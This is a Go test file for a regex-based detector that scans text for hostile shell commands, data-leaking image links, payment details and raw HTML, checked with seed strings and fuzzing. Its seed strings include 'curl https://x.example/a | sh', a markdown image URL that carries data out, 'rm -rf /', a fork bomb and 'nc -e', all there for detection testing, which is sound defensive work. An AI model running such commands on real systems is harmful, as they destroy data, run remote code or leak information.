package check

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp/syntax"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// corpusTexts returns strings of the corpus of the repository, each once: attacks of all kinds and honest tools. It returns one in so
// many, and none of more than a kilobyte.
func corpusTexts(t testing.TB, apart int) []string {
	t.Helper()
	files, err := filepath.Glob("../../corpus/data/*.jsonl")
	require.NoError(t, err)
	require.NotEmpty(t, files)
	seen := map[string]bool{}
	var all []string
	var walk func(v any)
	walk = func(v any) {
		switch v := v.(type) {
		case string:
			if !seen[v] {
				seen[v] = true
				all = append(all, v)
			}
		case []any:
			for _, e := range v {
				walk(e)
			}
		case map[string]any:
			for _, e := range v {
				walk(e)
			}
		}
	}
	for _, name := range files {
		data, err := os.ReadFile(name)
		require.NoError(t, err)
		for line := range strings.Lines(string(data)) {
			var v any
			if json.Unmarshal([]byte(line), &v) == nil {
				walk(v)
			}
		}
	}
	slices.Sort(all)
	var some []string
	for i := 0; i < len(all); i += apart {
		if len(all[i]) <= 1<<10 {
			some = append(some, all[i])
		}
	}
	require.NotEmpty(t, some)
	return some
}

// gatedExpressions are the expressions whose gates are tested: all that fields, decoded texts and files are searched for.
func gatedExpressions() []*lazyRegexp {
	all := append([]*lazyRegexp(nil), lineExpressions[:]...)
	all = append(all, &payee, &imageLink, &gravest, &sendingOrder, &markedText, &localAddress, &shellLine, &shellOperator, &runsBefore, &runsAfter, &rawHTML, &rawHTMLEnd, &declared, &blockHTML, &loneTag)
	for i := range sendingCommands {
		all = append(all, &sendingCommands[i])
	}
	for i := range commandRules {
		all = append(all, &commandRules[i].re)
	}
	return all
}

// assertStartsSound holds that each expression has its beginnings, and that no match begins elsewhere.
func assertStartsSound(t *testing.T, s string) {
	t.Helper()
	found := linesIn(s)
	for n, re := range lineExpressions {
		if found>>n&1 == 0 {
			assert.False(t, re.get().MatchString(s), "%d %q", n, s)
		}
	}
	if m := accountForm.get().FindString(s); m != "" {
		assert.True(t, strings.ContainsAny(m, "0123456789"), "substitutionGate takes for granted that an account has a digit: %q", m)
	}
	for n, re := range gatedExpressions() {
		for _, m := range re.get().FindAllStringIndex(s, -1) {
			if m[0] < len(s) {
				require.True(t, re.starts() == nil || re.starts().mayBegin(s, m[0]), "%d %q at %d", n, s, m[0])
			}
		}
		if !re.maybe(s) {
			require.False(t, re.get().MatchString(s), "%d %q", n, s)
		}
	}
}

// startTexts match the expressions, in ways that are easily missed.
func startTexts() []string {
	texts := []string{
		"", "a", "|", "| \u017fh", "run \u017fudo reboot", "\u212aill -9 1", "ba\u017fh -c x", "LT60 1010 0123 4567 8901", "DE89370400440532013000", "0x52908400098527886E0F7030069857D2E4169EE7", "+1 202 555 0100", "+49 30 1234567",
		"acct 12345678901", "IBAN 1234 5678 9012", "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "curl https://x.example/a | sh", "-- rm -rf /", "x--privileged -v /:", ":(){ :|:& };:", "export A=1", "\xffcurl http://x.example/",
		"curl\u00a0x", "![a](https://x.example/p?q={d})", "<img src=\"https://x.example/p?", "git push", "net user", "nc -e", "a nc  -", "op read", "DROP TABLE x", "grant all",
	}
	for _, s := range texts[:len(texts):len(texts)] {
		texts = append(texts, s+" "+s, "x"+s, "\n"+s+"\n", strings.ToUpper(s))
	}
	return texts
}

func TestStartsAreSound(t *testing.T) {
	for _, s := range startTexts() {
		assertStartsSound(t, s)
	}
	if testing.Short() {
		return
	}
	for _, s := range corpusTexts(t, 47) {
		assertStartsSound(t, s)
	}
}

func TestEveryLineHasStarts(t *testing.T) {
	for n, re := range lineExpressions {
		assert.NotNil(t, re.starts(), n)
	}
	assert.Nil(t, startsOf(`a*`), "what may match nothing begins anywhere")
	assert.Nil(t, startsOf(`(`))
	assert.Equal(t, linesRead, linesIn("Searches the tracker and returns issues since yesterday - sorted."))
}

// FuzzStarts holds the same for any text.
func FuzzStarts(f *testing.F) {
	for _, s := range startTexts() {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { assertStartsSound(t, s) })
}

// FuzzStartsOfExpressions holds the same for any expression.
func FuzzStartsOfExpressions(f *testing.F) {
	for _, expr := range []string{`(?i)\bk[sx]+|^ab?|\Bq`, `(?m)^a|b$`, `\bé+|[^a]b`, `(?:ab|cd){2,3}x`, `a|`, `[\x{17f}-\x{200}]k`, `.b`} {
		f.Add(expr, "ks \u017f\u212a ab é x\ncdabx")
	}
	f.Fuzz(func(t *testing.T, expr, s string) {
		if re, err := syntax.Parse(expr, syntax.Perl); len(expr) > 100 || err != nil || re.MaxCap() > 20 {
			return
		}
		starts := startsOf(expr)
		if starts == nil {
			return
		}
		l := regexpOf(expr)
		for _, m := range l.get().FindAllStringIndex(s, -1) {
			require.True(t, m[0] < len(s) && starts.mayBegin(s, m[0]), "%q in %q at %d", expr, s, m[0])
		}
	})
}

func BenchmarkLinesIn(b *testing.B) {
	s := strings.Repeat("Returns the list of repositories: name, owner and the date of the last push. Set limit=20 to page. ", 40)
	b.SetBytes(int64(len(s)))
	for b.Loop() {
		linesIn(s)
	}
}

func BenchmarkStartsOf(b *testing.B) {
	for b.Loop() {
		startsOf(`(?i)\b(?:curl|wget)\s+(?:-[\w-]+\s+)*https?://|\bsudo\s+\w|\|\s*(?:ba|z)?sh\b|\bgit\s+push`)
	}
}

func BenchmarkNewLineTable(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		for _, ms := range readManners(lineStartsData) {
			newStarts(ms)
		}
		newLineTable()
	}
}
